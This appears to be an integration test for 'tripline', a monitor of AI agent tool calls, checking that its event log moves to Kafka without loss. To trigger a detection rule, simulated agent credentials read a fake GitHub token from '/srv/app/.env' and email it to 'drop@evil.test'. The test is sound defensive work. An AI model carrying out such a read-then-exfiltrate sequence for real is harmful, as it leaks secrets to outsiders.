import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PIPELINE_RULES, uuidv7 } from "@tripline/events";
import {
  CallRefusedError,
  type ConnectedInterceptor,
  connectInterceptor,
  wrapTool,
} from "@tripline/interceptor";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Broker, startBroker } from "../infra/kafka/broker.ts";
import { recordLine } from "./support/record-line.ts";
import { requirement } from "./support/requirements.ts";
import { type Standalone, startStandalone } from "./support/standalone.ts";
import { type StoredRow, storedRecords } from "./support/stored-records.ts";
import { waitFor } from "./support/wait-for.ts";

const BROKER_PORT = 23_010; // and its controller on the next
const PORT = 23_000; // the same at each start: an interceptor knows one address
const COMMAND = new URL("../packages/cli/bin/tripline.js", import.meta.url).pathname;
const RULE = "secret-read-then-sent";
const SECRET = `ghp_${"k3JvQ8sLx1TzR7mWc5Yb"}${"N2dHf6PgA9eUi4Xo"}`;
const THIEVES = ["local:thief-1", "local:thief-2", "local:thief-3"];
const ARRIVE_MS = 40_000; // consumer groups of a broker that has just started take their time

/** What the collector would say as well, within 300 ms of a first start, on a machine that is not busy. */
const DESK = { tenant: "local", producer: "desk" };

interface Standing {
  generation: string;
  state: string;
}

/** Two moves of one installation: from the embedded log to Kafka with 3 partitions, and there to 6. */
describe.skipIf(requirement("kafka").missing)("the log moves without loss", () => {
  const folder = mkdtempSync(join(tmpdir(), "tripline-moves-"));
  const data = join(folder, "data");
  const children: ChildProcess[] = [];
  let broker: Broker;
  let service: Standalone;
  let interceptor: ConnectedInterceptor;
  let deskKey: string;
  let rawKey: string;
  let calls = 0;
  const kafka = () => ({ TRIPLINE_LOG: `kafka://${broker.address}` });
  const boot = uuidv7(Date.now(), new Uint8Array(10).fill(7));
  /** Sent again after each move, as by a producer that never heard that they had been taken. */
  const sent = Array.from({ length: 20 }, (_, seq) => {
    const { line, id } = recordLine({
      tenant: "local",
      producer: "raw",
      actor: { credential: "local:raw", assurance: "asserted" },
    });
    const record = JSON.parse(line);
    record.envelope.producer = { id: "raw", boot, seq };
    return { line: JSON.stringify(record), id, callId: String(record.envelope.call.id) };
  });

  function command(
    args: string[],
    env: Record<string, string> = {},
  ): ChildProcess & { said(): string; answer(): string } {
    const child = spawn(process.execPath, [COMMAND, "--data", data, ...args], {
      env: { ...process.env, NO_COLOR: "1", ...env },
      stdio: ["ignore", "pipe", "pipe"],
    });
    children.push(child);
    let said = "";
    let answer = "";
    child.stdout.setEncoding("utf8").on("data", (text: string) => {
      said += text;
      answer += text;
    });
    child.stderr.setEncoding("utf8").on("data", (text: string) => {
      said += text;
    });
    return Object.assign(child, { said: () => said, answer: () => answer });
  }

  async function tripline(args: string[], env?: Record<string, string>): Promise<string> {
    const child = command(args, env);
    const [code] = await once(child, "close");
    expect(code, child.said()).toBe(0);
    return child.answer();
  }

  const status = async (env?: Record<string, string>): Promise<Standing> =>
    JSON.parse(await tripline(["--json", "log", "status"], env));

  function tools(credential: string, from: ConnectedInterceptor = interceptor) {
    const options = {
      interceptor: from,
      server: "desk",
      caller: { credential, assurance: "verified" } as const,
      session: { id: `of ${credential}`, source: "conversation" } as const,
    };
    const counted = <A, R>(tool: (args: A) => Promise<R>) => {
      return async (args: A): Promise<R> => {
        calls += 1;
        return await tool(args);
      };
    };
    return {
      read: wrapTool(
        "read_text_file",
        counted(async (_: { path: string }) => `TOKEN=${SECRET}`),
        options,
      ),
      send: wrapTool(
        "send_email",
        counted(async (_: { to: string; body: string }) => "sent"),
        options,
      ),
    };
  }

  const readSecret = (credential: string) => tools(credential).read({ path: "/srv/app/.env" });
  const sendSecret = (credential: string) => tools(credential).send({ to: "drop@evil.test", body: SECRET });

  async function refused(credential: string, from?: ConnectedInterceptor): Promise<void> {
    const { read } = tools(credential, from);
    await waitFor(
      () =>
        read({ path: "/srv/app/notes.txt" }).then(
          () => false,
          (error: unknown) => error instanceof CallRefusedError,
        ),
      { what: `${credential} to be refused`, timeoutMs: ARRIVE_MS },
    );
  }

  async function send(lines: readonly string[]): Promise<Response> {
    return fetch(`${service.url}/v1/records`, {
      method: "POST",
      headers: { authorization: `Bearer ${rawKey}`, "content-type": "application/x-ndjson" },
      body: `${lines.join("\n")}\n`,
    });
  }

  async function stored(query: string, atLeast: number): Promise<StoredRow[]> {
    return waitFor(
      async () => {
        const rows = await storedRecords(service, query);
        return rows.length >= atLeast ? rows : null;
      },
      { what: `${atLeast} rows for ${query}`, timeoutMs: ARRIVE_MS },
    );
  }

  /** Every call that went through is stored once, and each of these thieves was caught once. */
  async function holds(caught: string[]): Promise<void> {
    const served = (await stored("producer=desk&type=call&outcome=ok", calls)).map((row) => row.call_id);
    expect(served).toHaveLength(calls);
    expect(new Set(served).size).toBe(calls);
    const raw = await stored("producer=raw", sent.length);
    expect(raw.map(({ id }) => id).sort()).toEqual(sent.map(({ id }) => id).sort());
    for (const credential of caught) {
      const { alerts } = await waitFor(
        async () => {
          const found = await service.json<{ alerts: { id: string }[] }>(
            `/api/alerts?rule=${RULE}&credential=${credential}`,
          );
          return found.alerts.length > 0 ? found : null;
        },
        { what: `the alert about ${credential}`, timeoutMs: ARRIVE_MS },
      );
      expect(alerts, credential).toHaveLength(1);
      const { revocations } = await service.json<{ revocations: { subject: string; alert_id: string }[] }>(
        "/api/revocations",
      );
      const own = revocations.filter(({ subject }) => subject === credential);
      expect(own.map(({ alert_id }) => alert_id)).toEqual([alerts[0]?.id]);
    }
  }

  /** As an agent on another machine that starts now and knows nothing yet. */
  async function knownToNewcomers(credential: string, name: string): Promise<void> {
    const newcomer = await connectInterceptor({
      url: service.url,
      ingestKey: deskKey,
      ...DESK,
      stateDir: join(folder, name),
      onWarning: () => undefined,
    });
    await refused(credential, newcomer);
    await newcomer.close(5_000);
  }

  async function generationOf(callId: string): Promise<string> {
    const answer = await service.json<{ call: { source: { generation: string } } }>(`/api/calls/${callId}`);
    return answer.call.source.generation;
  }

  beforeAll(async () => {
    broker = await startBroker({ port: BROKER_PORT, dataDir: join(folder, "kafka") });
    mkdirSync(data, { mode: 0o700 });
    writeFileSync(
      join(data, "response.yaml"),
      `automatic_revocation:\n  rules:\n    ${RULE}: { enabled: true }\n`,
      { mode: 0o600 },
    );
    service = await startStandalone({ data, port: PORT });
    const enrol = async (body: object) =>
      (
        await service.json<{ key: string }>("/v1/producers", {
          method: "POST",
          body: JSON.stringify(body),
        })
      ).key;
    deskKey = await enrol({ id: "desk", issuers: [], credentials: THIEVES });
    rawKey = await enrol({ id: "raw", issuers: ["local"] });
    interceptor = await connectInterceptor({
      url: service.url,
      ingestKey: deskKey,
      ...DESK,
      stateDir: join(folder, "agent"),
      onWarning: () => undefined,
    });
  }, 120_000);

  afterAll(async () => {
    for (const child of children) child.kill("SIGKILL");
    await interceptor?.close(1_000);
    await service?.dispose();
    await broker?.kill();
    rmSync(folder, { recursive: true, force: true });
  });

  it("drains: producers wait with their records, everything else is worked off", {
    timeout: 120_000,
  }, async () => {
    expect((await send(sent.map(({ line }) => line))).status).toBe(200);
    await readSecret("local:thief-1");
    await sendSecret("local:thief-1");
    await refused("local:thief-1");
    await readSecret("local:thief-2"); // its second half comes after the move
    await holds(["local:thief-1"]);

    const said = await tripline(["log", "drain"]);
    expect(said).toContain("embedded-1: draining");
    const answer = await send([sent[0]?.line ?? ""]);
    expect(answer.status).toBe(503);
    expect(answer.headers.get("retry-after")).toMatch(/^\d+$/);
    expect(await answer.json()).toMatchObject({ error: { code: "TRIPLINE_STREAM_DRAINING" } });
    await tools("local:thief-3").read({ path: "/tmp/while-it-drains.txt" }); // waits in the spool
    expect(await service.stop(), service.output()).toBe(0);
  });

  it("is harmless when the tool is killed, and ends on Kafka when it is run again", {
    timeout: 120_000,
  }, async () => {
    const args = ["log", "cutover", "--to", `kafka://${broker.address}`, "--partitions", "3"];
    const killed = command(args);
    await waitFor(() => killed.said().includes("copying embedded-1"), {
      what: "the copy to begin",
      timeoutMs: 30_000,
    });
    killed.kill("SIGKILL");
    await once(killed, "close");
    expect(await status()).toMatchObject({ generation: "embedded-1", state: "draining" });
    expect(await tripline(args)).toMatch(/embedded-1 is closed and goes on in kafka-\S+-2/);
    expect(await status()).toMatchObject({ generation: "embedded-1", state: "closed" });
    await expect(startStandalone({ data, port: PORT })).rejects.toThrow(
      /embedded-1 is closed and goes on in kafka-/,
    );
  });

  it("goes on where it was: chains, resends, revocations, spools", { timeout: 150_000 }, async () => {
    service = await startStandalone({ data, port: PORT, env: kafka() });
    expect((await send(sent.map(({ line }) => line))).status).toBe(200);
    await sendSecret("local:thief-2");
    await refused("local:thief-2");
    await knownToNewcomers("local:thief-1", "newcomer-1");
    await readSecret("local:thief-3"); // its second half comes after the next move
    await holds(["local:thief-1", "local:thief-2"]);
    const rows = await storedRecords(service, "producer=desk&type=call&outcome=ok");
    const newest = rows.find(
      ({ credential, tool }) => credential === "local:thief-2" && tool === "send_email",
    );
    expect(await generationOf(newest?.call_id ?? "")).toMatch(/^kafka-.+-2$/);
    expect(await generationOf(sent[0]?.callId ?? "")).toBe("embedded-1");
  });

  it("gets more partitions on the same Kafka the same way", { timeout: 240_000 }, async () => {
    await tripline(["log", "drain"], kafka());
    expect((await send([sent[0]?.line ?? ""])).status).toBe(503);
    expect(await service.stop(), service.output()).toBe(0);
    expect(await tripline(["log", "cutover", "--partitions", "6"], kafka())).toMatch(
      /-2 is closed and goes on in kafka-\S+-3/,
    );
    service = await startStandalone({ data, port: PORT, env: kafka() });
    expect(await status(kafka())).toMatchObject({ state: "open", generation: expect.stringMatching(/-3$/) });
    expect((await send(sent.map(({ line }) => line))).status).toBe(200);
    await sendSecret("local:thief-3");
    await refused("local:thief-3");
    await knownToNewcomers("local:thief-2", "newcomer-2");
    await holds(THIEVES);
    for (const rule of Object.keys(PIPELINE_RULES)) {
      const { alerts } = await service.json<{ alerts: unknown[] }>(`/api/alerts?rule=${rule}`);
      expect(alerts, `nothing is missing, doubled or silent: ${rule}`).toEqual([]);
    }
    expect(await service.stop(), service.output()).toBe(0);
  });
});
